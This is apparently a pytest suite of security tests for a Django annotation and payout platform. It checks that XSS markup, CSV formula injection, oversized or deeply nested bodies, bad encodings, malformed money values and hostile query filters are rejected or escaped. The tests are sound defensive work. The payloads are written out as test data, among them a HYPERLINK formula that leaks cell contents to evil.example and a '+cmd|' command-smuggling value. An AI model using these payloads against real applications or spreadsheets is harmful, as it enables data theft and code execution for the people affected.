"""Hostile input: markup, formulas, oversized and deeply nested bodies, bad encodings, odd money, odd ids, and
query strings that name model fields. Each is refused with a clear 4xx and leaves nothing written, or, where it
is legitimate data (markup in a task), is shown as text."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart

from payouts.models import Entry
from tasks.models import Answer, Pool, Task
from tests.factories import PoolFactory, RequesterFactory, TaskFactory, fund
from workflows import assignments as assignments_flow
from workflows import pools as pools_flow

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('owned')</script>"
IMG = '<img src=x onerror="alert(1)">'


def _error(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    error = response.json()["error"]
    assert set(error) == {"code", "message", "details"} and error["message"]
    return dict(error)


def _nothing_written() -> tuple[int, int, int, int]:
    return Pool.objects.count(), Task.objects.count(), Answer.objects.count(), Entry.objects.count()


def _open_pool(requester: Any, **fields: Any) -> Pool:
    fund(requester, "50.00")
    pool = PoolFactory.create(requester=requester, **fields)
    TaskFactory.create(pool=pool)
    pools_flow.pool_open(pool=pool)
    return pool


# ------------------------------------------------------------------------------------------ markup (XSS)


def _annotator(worker: Any, pool: Pool) -> str:
    client = Client()
    client.force_login(worker)
    response = client.get(f"/work/?pool={pool.pk}")
    assert response.status_code == 200
    return response.content.decode()


def test_task_data_with_script_is_shown_to_workers_as_text(requester, worker):
    fund(requester, "50.00")
    pool = PoolFactory.create(requester=requester)
    TaskFactory.create(pool=pool, data={"text": f"{SCRIPT}<b>bold</b>", "html_key<i>": IMG})
    pools_flow.pool_open(pool=pool)
    page = _annotator(worker, pool)
    assert "<script>alert" not in page and "<b>bold</b>" not in page and "<img" not in page
    assert "&lt;script&gt;alert(&#x27;owned&#x27;)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in page
    assert "html key&lt;i&gt;" in page  # the field name is escaped too


def test_a_pool_that_opts_in_to_html_shows_it_sanitised(requester, worker):
    fund(requester, "50.00")
    pool = PoolFactory.create(requester=requester, allow_html=True)
    TaskFactory.create(
        pool=pool, data={"text": f"<b>bold</b>{SCRIPT}{IMG}<a href='javascript:alert(1)'>x</a>"}
    )
    pools_flow.pool_open(pool=pool)
    page = _annotator(worker, pool)
    assert "<b>bold</b>" in page  # the markup the requester meant
    assert "<script>alert" not in page and "onerror" not in page and "javascript:" not in page


def test_markup_in_pool_names_labels_and_instructions_is_escaped_on_every_page(requester, worker):
    name, label, instructions = f"Pool {SCRIPT}", f"Yes{IMG}", f"Read {SCRIPT} carefully"
    fund(requester, "50.00")
    pool = PoolFactory.create(requester=requester, name=name, labels=[label, "No"], instructions=instructions)
    TaskFactory.create(pool=pool)
    pools_flow.pool_open(pool=pool)

    worker_client, requester_client = Client(), Client()
    worker_client.force_login(worker)
    requester_client.force_login(requester)
    pages = {
        "feed": worker_client.get("/feed/"),
        "annotator": worker_client.get(f"/work/?pool={pool.pk}"),
        "pool list": requester_client.get("/pools/"),
        "pool page": requester_client.get(f"/pools/{pool.pk}/"),
    }
    assignment = assignments_flow.assignment_next(worker=worker, pool_id=pool.pk)
    assert assignment is not None
    # The annotator's htmx fragment, after skipping (same template, partial render).
    pages["annotator fragment"] = worker_client.post(
        f"/work/{assignment.pk}/skip/", {"pool": pool.pk}, HTTP_HX_REQUEST="true"
    )
    for where, response in pages.items():
        assert response.status_code == 200, where
        html = response.content.decode()
        assert "<script>alert" not in html, where
        assert "<img" not in html, where
    shown = {where: r.content.decode() for where, r in pages.items()}
    assert "Pool &lt;script&gt;" in shown["feed"] and "Pool &lt;script&gt;" in shown["pool list"]
    assert "Yes&lt;img" in shown["annotator"]
    assert "Read &lt;script&gt;" in shown["annotator"]


def test_the_api_returns_markup_verbatim_as_json(api, requester, worker):
    name, label = f"Pool {SCRIPT}", f"Yes{IMG}"
    pool = _open_pool(requester, name=name, labels=[label, "No"])
    task = Task.objects.get(pool=pool)
    task.data = {"text": SCRIPT}
    task.save()
    response = api(requester).get(f"/api/v1/pools/{pool.pk}/")
    assert response["Content-Type"] == "application/json"
    assert response.json()["name"] == name and response.json()["labels"][0] == label
    response = api(worker).post("/api/v1/assignments/next/", {"pool": pool.pk}, format="json")
    assert response["Content-Type"] == "application/json"
    assert response.json()["task"]["data"] == {"text": SCRIPT}


# ------------------------------------------------------------------------------------- CSV formula injection


@pytest.mark.parametrize("kind", ["answers", "results"])
def test_csv_exports_neutralise_formulas(api, requester, worker, kind):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    pool = _open_pool(requester, labels=[formula, "@SUM(1)"])
    Task.objects.filter(pool=pool).update(external_id="+cmd|' /C calc'!A0")
    assignment = assignments_flow.assignment_next(worker=worker, pool_id=pool.pk)
    assignments_flow.assignment_submit(worker=worker, assignment_id=assignment.pk, answer=formula)

    client = Client()
    client.force_login(requester)
    for response in (
        client.get(f"/pools/{pool.pk}/download/{kind}/?format=csv"),
        api(requester).get(f"/api/v1/pools/{pool.pk}/{kind}/?format=csv"),
    ):
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0]["external_id"] == "'+cmd|' /C calc'!A0"
        assert rows[0]["label"] == "'" + formula
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    # JSON is data, not a spreadsheet: it carries the value unchanged.
    body = b"".join(api(requester).get(f"/api/v1/pools/{pool.pk}/{kind}/?format=json").streaming_content)
    assert json.loads(body)["results"][0]["label"] == formula


# ------------------------------------------------------------------------------------------ oversized bodies


class _ExplodingInput(io.RawIOBase):
    """A request body that fails the test if anyone reads it."""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        raise AssertionError("the oversized body was read")


def _declared(client: Client, path: str, content_type: str, length: int, **extra: Any) -> Any:
    return client.generic(
        "POST",
        path,
        data=b"",
        content_type=content_type,
        CONTENT_LENGTH=str(length),
        CONTENT_TYPE=content_type,
        **{"wsgi.input": _ExplodingInput(), **extra},
    )


def test_an_upload_over_the_limit_is_refused_before_its_body_is_read(requester, settings):
    pool = PoolFactory.create(requester=requester)
    client = Client(HTTP_AUTHORIZATION=f"Token {requester.auth_token.key}")
    before = _nothing_written()
    declared = settings.MAX_UPLOAD_BYTES + 1
    response = _declared(client, f"/api/v1/pools/{pool.pk}/tasks/", MULTIPART_CONTENT, declared)
    error = _error(response, 413)
    assert error["code"] == "payload_too_large"
    assert error["details"]["limit_bytes"] == settings.MAX_UPLOAD_BYTES
    assert _nothing_written() == before


def test_a_json_body_over_the_limit_is_refused_before_it_is_read(requester, settings):
    pool = PoolFactory.create(requester=requester)
    client = Client(HTTP_AUTHORIZATION=f"Token {requester.auth_token.key}")
    declared = settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1
    response = _declared(client, f"/api/v1/pools/{pool.pk}/tasks/", "application/json", declared)
    assert _error(response, 413)["code"] == "payload_too_large"
    assert not Task.objects.exists()


def test_a_real_oversized_file_is_refused_through_the_api_and_the_page(requester, settings):
    settings.MAX_UPLOAD_BYTES = 64 * 1024
    pool = PoolFactory.create(requester=requester)
    big = b"text\n" + b"x" * 100 + b"\n" * 1 + b"".join(b"row %d\n" % i for i in range(20000))
    assert len(big) > settings.MAX_UPLOAD_BYTES
    body = encode_multipart(BOUNDARY, {"file": _named(big, "tasks.csv")})

    api_client = Client(HTTP_AUTHORIZATION=f"Token {requester.auth_token.key}")
    response = api_client.generic("POST", f"/api/v1/pools/{pool.pk}/tasks/", body, MULTIPART_CONTENT)
    assert _error(response, 413)["code"] == "payload_too_large"

    page_client = Client(enforce_csrf_checks=True)
    page_client.force_login(requester)
    response = page_client.generic("POST", f"/pools/{pool.pk}/upload/", body, MULTIPART_CONTENT)
    assert response.status_code == 413
    assert "larger than" in response.content.decode()
    assert not Task.objects.exists()


def _named(content: bytes, name: str) -> io.BytesIO:
    file = io.BytesIO(content)
    file.name = name
    return file


# ------------------------------------------------------------------------------------- deep and odd JSON


@pytest.mark.parametrize("depth", [33, 900, 5000, 100_000])
def test_deeply_nested_json_is_a_400_and_writes_nothing(api, requester, depth):
    pool = PoolFactory.create(requester=requester)
    nested = "[" * depth + "]" * depth
    body = '{"tasks": [{"data": {"x": ' + nested + "}}]}"
    response = api(requester).post(f"/api/v1/pools/{pool.pk}/tasks/", body, content_type="application/json")
    error = _error(response, 400)
    assert "nested deeper than" in error["message"]
    assert not Task.objects.exists()


def test_modestly_nested_task_data_is_accepted(api, requester):
    pool = PoolFactory.create(requester=requester)
    data = {"a": {"b": {"c": [[["deep enough"]]]}}}
    response = api(requester).post(
        f"/api/v1/pools/{pool.pk}/tasks/", {"tasks": [{"data": data}]}, format="json"
    )
    assert response.status_code == 201
    assert Task.objects.get(pool=pool).data == data


@pytest.mark.parametrize("text", ["a\\u0000b", "a\\ud800b", "\\udfff"])
@pytest.mark.parametrize("where", ["pool name", "task data", "token username"])
def test_json_strings_no_database_can_hold_are_a_400(api, requester, text, where):
    pool = PoolFactory.create(requester=requester)
    if where == "pool name":
        path = "/api/v1/pools/"
        body = '{"name": "' + text + '", "labels": ["A", "B"], "reward": "0.05", "overlap": 1}'
    elif where == "task data":
        path = f"/api/v1/pools/{pool.pk}/tasks/"
        body = '{"tasks": [{"data": {"text": "' + text + '"}}]}'
    else:
        path = "/api/v1/auth/token/"
        body = '{"username": "' + text + '", "password": "x"}'
    before = _nothing_written()
    response = api(requester).post(path, body, content_type="application/json")
    assert _error(response, 400)["code"] == "invalid_request"
    assert _nothing_written() == before


DEEP = b"[" * 900 + b"]" * 900


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("tasks.jsonl", b'{"data": {"x": ' + DEEP + b"}}\n"),
        ("tasks.json", b'[{"data": {"x": ' + DEEP + b"}}]"),
        ("tasks.jsonl", b'{"data": {"t": "a\\ud800b"}}\n'),
        # (A .json file's lone surrogate never arrives: ijson's C parser turns it into "?".)
        ("tasks.jsonl", b'{"data": {"t": "x"}, "external_id": "a\\udc00"}\n'),
        ("tasks.csv", b'text\n"a\x00b"\n'),
    ],
)
def test_task_files_with_hostile_json_are_refused_with_their_row(api, requester, name, content):
    pool = PoolFactory.create(requester=requester)
    response = api(requester).post(
        f"/api/v1/pools/{pool.pk}/tasks/", {"file": _named(content, name)}, format="multipart"
    )
    error = _error(response, 400)
    assert error["code"] == "invalid_upload" and error["details"]["row"] == 1
    assert not Task.objects.exists()


def test_a_token_request_with_nul_in_a_form_field_is_a_400(client):
    response = client.post("/api/v1/auth/token/", {"username": "a\x00b", "password": "x"})
    assert _error(response, 400)["code"] == "invalid_credentials"


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b'{"tasks": [{"data": {"text": "caf\xe9"}}]}', "application/json"),  # Latin-1 bytes, not UTF-8
        ('{"tasks": [{"data": {"text": "café"}}]}'.encode("utf-16"), "application/json"),
        (b"{not json", "application/json"),
        (b'{"tasks": [{"data": {"x": NaN}}]}', "application/json"),
    ],
)
def test_bodies_that_are_not_utf8_json_are_a_400(api, requester, body, content_type):
    pool = PoolFactory.create(requester=requester)
    response = api(requester).post(f"/api/v1/pools/{pool.pk}/tasks/", body, content_type=content_type)
    assert _error(response, 400)
    assert not Task.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        "text,golden\ncafé au lait,\n".encode("latin-1"),
        "text\nfirst\nsecond\n".encode("utf-16"),
        b"text\nfine\n\xff\xfe broken\n",
    ],
)
def test_a_csv_in_the_wrong_encoding_is_refused_with_its_row(api, requester, content):
    pool = PoolFactory.create(requester=requester)
    response = api(requester).post(
        f"/api/v1/pools/{pool.pk}/tasks/", {"file": _named(content, "tasks.csv")}, format="multipart"
    )
    error = _error(response, 400)
    assert error["code"] == "invalid_upload"
    assert "row" in error["details"]
    assert not Task.objects.exists()


# ---------------------------------------------------------------------------------------------- money

BAD_MONEY = ["0", "-0.05", "-1", "0.00000000000000000001", "1e-20", "NaN", "Infinity", "1e12", "0x10", ""]


@pytest.mark.parametrize("reward", [*BAD_MONEY, 0.05, True, None, ["0.05"]])
def test_bad_rewards_are_refused_by_the_api(api, requester, reward):
    before = _nothing_written()
    response = api(requester).post(
        "/api/v1/pools/", {"name": "P", "labels": ["A", "B"], "reward": reward, "overlap": 1}, format="json"
    )
    error = _error(response, 400)
    assert "reward" in error["details"]["fields"]
    assert _nothing_written() == before


@pytest.mark.parametrize("reward", BAD_MONEY)
def test_bad_rewards_are_refused_by_the_pool_form(requester, reward):
    client = Client()
    client.force_login(requester)
    form = {"name": "P", "labels": "A\nB", "reward": reward, "overlap": 1, "priority": 50}
    response = client.post("/pools/new/", {**form, "golden_rate": 0.1, "assignment_ttl": 600})
    assert response.status_code == 200  # the form again, with the error
    assert not Pool.objects.exists()


@pytest.mark.parametrize("amount", [*BAD_MONEY, "0.005", 1])
def test_bad_withdrawal_amounts_are_refused(api, worker, amount):
    # "1" is a fine amount the worker has not earned (402). The rest, the JSON number 1 included, are not amounts
    # as the schema spells them (400).
    before = _nothing_written()
    response = api(worker).post("/api/v1/me/withdrawals/", {"amount": amount}, format="json")
    assert response.status_code == 400, response.content
    assert api(worker).post("/api/v1/me/withdrawals/", {"amount": "1"}, format="json").status_code == 402
    assert _error(response, response.status_code)
    assert _nothing_written() == before


def test_a_reward_with_four_decimals_is_kept_exactly(api, requester):
    response = api(requester).post(
        "/api/v1/pools/", {"name": "P", "labels": ["A", "B"], "reward": "0.0125", "overlap": 1}, format="json"
    )
    assert response.status_code == 201
    assert Pool.objects.get().reward == Decimal("0.0125")


# ---------------------------------------------------------------------------------------- ids and queries

ODD_IDS = [
    "abc",
    "1.5",
    "-1",
    "0",
    "1e3",
    "0x10",
    "99999999999999999999",
    "9223372036854775808",
    "%00",
    "1%20",
]


@pytest.mark.parametrize("odd", ODD_IDS)
def test_ids_that_are_not_numbers_are_not_found(api, requester, worker, odd):
    PoolFactory.create(requester=requester)
    for client, path in [
        (api(requester), f"/api/v1/pools/{odd}/"),
        (api(requester), f"/api/v1/pools/{odd}/answers/"),
        (api(worker), f"/api/v1/assignments/{odd}/submit/"),
        (api(requester), f"/api/v1/answers/{odd}/accept/"),
    ]:
        call = client.get if path.endswith("/answers/") or path.count("/") == 5 else client.post
        response = call(path, {"label": "OK"}, format="json") if call == client.post else call(path)
        assert _error(response, 404)["code"] == "not_found", path
    page = Client()
    page.force_login(requester)
    assert page.get(f"/pools/{odd}/").status_code == 404


def test_query_parameters_naming_fields_are_ignored(api, requester, worker):
    pool = _open_pool(requester, name="Mine")
    PoolFactory.create(requester=requester, name="Second")
    assignment = assignments_flow.assignment_next(worker=worker, pool_id=pool.pk)
    assignments_flow.assignment_submit(worker=worker, assignment_id=assignment.pk, answer="OK")
    hostile = {
        "ordering": "requester__password",
        "requester__password__startswith": "md5$",
        "worker__password__startswith": "md5$",
        "worker__username": worker.username,
        "name__regex": ".*",
        "fields": "requester__password",
        "search": "password",
        "page_size": "100000",
    }
    client = api(requester)
    assert client.get("/api/v1/pools/", hostile).json() == client.get("/api/v1/pools/").json()
    for path in (f"/api/v1/pools/{pool.pk}/answers/", f"/api/v1/pools/{pool.pk}/results/"):
        plain = b"".join(client.get(path, {"format": "csv"}).streaming_content)
        hostile_body = b"".join(client.get(path, {**hostile, "format": "csv"}).streaming_content)
        assert hostile_body == plain
        assert b"md5$" not in hostile_body and worker.username.encode() not in hostile_body
    # Nothing we send back anywhere carries a password hash.
    for response in (client.get("/api/v1/me/", hostile), client.get(f"/api/v1/pools/{pool.pk}/", hostile)):
        assert "password" not in response.content.decode() and "md5$" not in response.content.decode()
    page = Client()
    page.force_login(requester)
    assert page.get("/pools/", hostile).status_code == 200


def test_an_unknown_export_format_is_a_400(api, requester):
    pool = PoolFactory.create(requester=requester)
    response = api(requester).get(f"/api/v1/pools/{pool.pk}/answers/", {"format": "xlsx"})
    assert _error(response, 400)["code"] == "invalid_format"


def test_claiming_from_a_pool_id_beyond_any_database_integer_finds_nothing(api, worker):
    response = api(worker).post("/api/v1/assignments/next/", {"pool": 2**70}, format="json")
    assert response.status_code == 204


def test_a_fresh_requester_sees_no_one_elses_pools_whatever_the_query(api):
    owner, other = RequesterFactory.create(), RequesterFactory.create()
    PoolFactory.create(requester=owner, name="Secret")
    for query in ({}, {"requester": owner.pk}, {"requester_id": owner.pk}, {"all": "1"}):
        body = api(other).get("/api/v1/pools/", query).json()
        assert body["results"] == []
